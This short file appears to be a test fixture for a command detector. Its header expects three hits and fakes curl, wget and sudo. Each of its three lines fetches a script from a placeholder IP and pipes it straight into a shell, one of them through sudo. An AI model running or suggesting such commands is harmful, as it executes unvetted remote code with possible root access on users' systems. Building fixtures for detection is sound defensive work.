# SPDX-License-Identifier: Apache-2.0
# hits: 3
# fake: /usr/bin/curl /usr/bin/wget /usr/bin/sudo
sh -c 'curl -fsSL http://192.0.2.7/x.sh | sh'
bash -c 'wget -qO- http://192.0.2.7/x | sudo bash -s -- --yes'
bash -c 'bash <(curl -s http://192.0.2.7/x.sh)'
